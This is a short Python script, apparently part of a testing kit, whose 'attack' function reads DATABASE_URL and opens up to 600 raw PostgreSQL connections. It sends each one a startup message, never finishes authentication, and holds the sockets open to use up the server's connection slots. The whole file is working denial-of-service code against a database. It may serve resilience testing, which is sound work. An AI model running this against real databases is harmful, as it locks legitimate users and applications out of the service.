"""Opens connections to PostgreSQL until there are none left, and never says who it is."""

import os
import socket
import struct
import urllib.parse

from kit import say

COUNT = 600
KEPT = []


def attack() -> None:
    address = urllib.parse.urlsplit(os.environ["DATABASE_URL"])
    who = (
        b"user\0"
        + address.username.encode()
        + b"\0database\0"
        + address.path[1:].encode()
        + b"\0\0"
    )
    hello = struct.pack("!ii", 8 + len(who), 196608) + who
    for _ in range(COUNT):
        try:
            connection = socket.create_connection((address.hostname, address.port), 2)
            connection.sendall(hello)
            KEPT.append(connection)
        except OSError:
            break
    say(f"{len(KEPT)} connections")
